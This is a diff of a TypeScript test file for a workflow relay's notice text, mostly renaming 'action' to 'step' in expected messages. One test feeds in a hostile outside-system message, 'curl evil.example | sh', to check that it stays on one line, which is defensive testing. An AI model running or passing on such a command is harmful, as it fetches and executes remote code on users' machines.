@@ -106,17 +106,17 @@ describe('the text of a notice', () => {
         'The assignment platform gave an error or no answer.',
         'Retry: https://relay.example/hold/signed#retry',
         'Skip: https://relay.example/hold/signed#skip',
-        'The links open a page without a sign-in, which asks you to confirm.',
+        'The links open a page that asks you to confirm. That page needs no sign-in.',
         ids,
       ],
       'What happens next': [
-        'The relay retries the action automatically, next at 2024-03-05 16:18:00 UTC. You get a notice when it succeeds.',
-        'If nobody decides before 2024-03-08 16:07:09 UTC, the action fails, and the actions that wait for it do not run.',
+        'The relay will retry the step automatically at 2024-03-05 16:18:00 UTC. You get a notice if the retry succeeds.',
+        'If nobody decides before 2024-03-08 16:07:09 UTC, the step fails, and the steps that wait for it do not run.',
       ],
       'Will still run': [`Send an e-mail: alert, due ${shownTime(later)}`],
-      'Waiting for this action': ['Update a ticket field'],
+      'Waiting for this step': ['Update a ticket field'],
       Done: ['Send an e-mail: greet'],
-      Details: ['POST /assignments/1001/send answered 503 (PlatformError)'],
+      Details: ['POST /assignments/1001/send answered 503'],
     });
   });
 
@@ -140,12 +140,12 @@ describe('the text of a notice', () => {
     ['another remedy', other, false, 'not', `${missing.title}.`, `${other.remedy}.`, 'Retry #retry, Fix console, Skip #skip'],
     [
       ...(['a data mistake', mistake, false, 'not', "The event's data has a mistake: “Within (miles)” is blank."] as const),
-      ...(['Correct the fields, then retry.', 'Fix console, Retry #retry, Skip #skip'] as const),
+      ...(['Correct the fields of the step, then retry.', 'Fix console, Retry #retry, Skip #skip'] as const),
     ],
     [
-      ...(['an unknown outcome', unknown, true, 'perhaps not', 'The outcome is unknown.'] as const),
+      ...(['an unknown outcome', unknown, true, 'perhaps not', 'Nobody knows whether this step worked.'] as const),
       ...([
-        'Check whether the action was done. If it was, skip the action; if not, retry.',
+        'Check whether the step was done. If it was, skip the step; if not, retry.',
         'Retry #retry, Fix console, Skip #skip',
       ] as const),
     ],
@@ -199,14 +199,14 @@ describe('the text of a notice', () => {
 
   it('about a held action that waits for a person', () => {
     const happens = sectionsOf('needs-attention', { nextAttemptAt: undefined }).get('What happens next');
-    assert.equal(happens?.[0], 'The relay does not retry the action automatically.');
+    assert.equal(happens?.[0], 'The relay does not retry the step automatically.');
   });
 
   it('about a held action of a delay: actions due at another time are not held', () => {
     const due = (action: ActionStatus): ActionStatus =>
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
-    assert.deepEqual(sections.get('Waiting for this action'), ['Send an e-mail: alert']);
+    assert.deepEqual(sections.get('Waiting for this step'), ['Send an e-mail: alert']);
     assert.deepEqual(sections.get('Will still run'), [`Update a ticket field, due ${shownTime(received)}`]);
   });
 
@@ -218,7 +218,7 @@ describe('the text of a notice', () => {
       { ...common, index: 6, action: 'sendEmails', comment: 'six', state: 'retrying', runAt: later },
     ];
     const sections = sectionsOf('needs-attention', {}, other);
-    assert.deepEqual(sections.get('Waiting for this action'), ['Update a ticket field']);
+    assert.deepEqual(sections.get('Waiting for this step'), ['Update a ticket field']);
     assert.deepEqual(sections.get('Also needs attention'), ['Send an e-mail: four', 'Send an e-mail: five (waits)']);
     assert.deepEqual(sections.get('Will still run'), [
       `Send an e-mail: alert, due ${shownTime(later)}`,
@@ -232,14 +232,14 @@ describe('the text of a notice', () => {
         'Assignment 1001 was not sent',
         ...place,
         'The assignment platform gave an error or no answer.',
-        'The rest of the chain continues. You can retry the action, even after the chain has ended.',
+        'The rest of the chain continues. You can retry the step, even after the chain has ended.',
         `Fix and retry: ${chainPage}`,
         signIn,
         ids,
       ],
       'Will still run': goesOn,
       Done: ['Send an e-mail: greet'],
-      Details: ['POST /assignments/1001/send answered 503 (PlatformError)'],
+      Details: ['POST /assignments/1001/send answered 503'],
     });
   });
 
@@ -261,10 +261,10 @@ describe('the text of a notice', () => {
   it('about an action without a decision', () => {
     const ended = actions.map((action): ActionStatus => (action.index === 2 ? { ...action, state: 'not-run' } : action));
     const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
-    assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the action\./);
+    assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the step\./);
     assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
     assert.deepEqual(sections.get('Will still run'), [`Send an e-mail: alert, due ${shownTime(later)}`]);
-    assert.equal(sections.has('Waiting for this action'), false);
+    assert.equal(sections.has('Waiting for this step'), false);
   });
 
   it('about an action that the relay completed after all, with the remark of the connector', () => {
@@ -273,7 +273,7 @@ describe('the text of a notice', () => {
     assert.deepEqual(sections.get(''), [
       'Assignment 1001 was sent after all',
       ...place,
-      'The relay tried again, and the action succeeded. The chain continues.',
+      'The relay tried again, and the step succeeded. The chain continues.',
       `Remark: ${result.note}.`,
       `Open the chain: ${chainPage}`,
       signIn,
@@ -285,7 +285,7 @@ describe('the text of a notice', () => {
   it('about an action that is no longer needed', () => {
     const lines = linesOf('recovered', { state: 'skipped', reason: 'status was "sent"' });
     assert.equal(lines[0], 'No decision is needed any more');
-    assert.equal(lines[4], 'The relay tried again. The action is skipped: status was "sent". The chain continues.');
+    assert.equal(lines[4], 'The relay tried again. The step is skipped: status was "sent". The chain continues.');
   });
 
   it('keeps the text of a sender or an outside system on one line', () => {
@@ -294,7 +294,7 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this action', 'What happens next', 'Will still run'],
+      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this step', 'What happens next', 'Will still run'],
     ]);
     assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
     assert.equal(sections.get('')?.length, 9);
@@ -319,7 +319,7 @@ describe('the subject of a notice', () => {
     ['needs-attention', {}, 'Route', '[relay] Needs attention: first wave (Route, assignment 1001)'],
     ['failed', {}, 'Route', '[relay] Failed: first wave (Route, assignment 1001)'],
     ['partly-failed', {}, 'Route', '[relay] Partly failed: first wave (Route, assignment 1001)'],
-    ['gave-up', {}, 'Route', '[relay] Given up: first wave (Route, assignment 1001)'],
+    ['gave-up', {}, 'Route', '[relay] No decision in time: first wave (Route, assignment 1001)'],
     ['recovered', { assignmentId: '' }, 'Route', '[relay] Recovered: first wave (Route)'],
     ['failed', { comment: ' \n' }, 'Route', '[relay] Failed: send the assignment (Route, assignment 1001)'],
     [
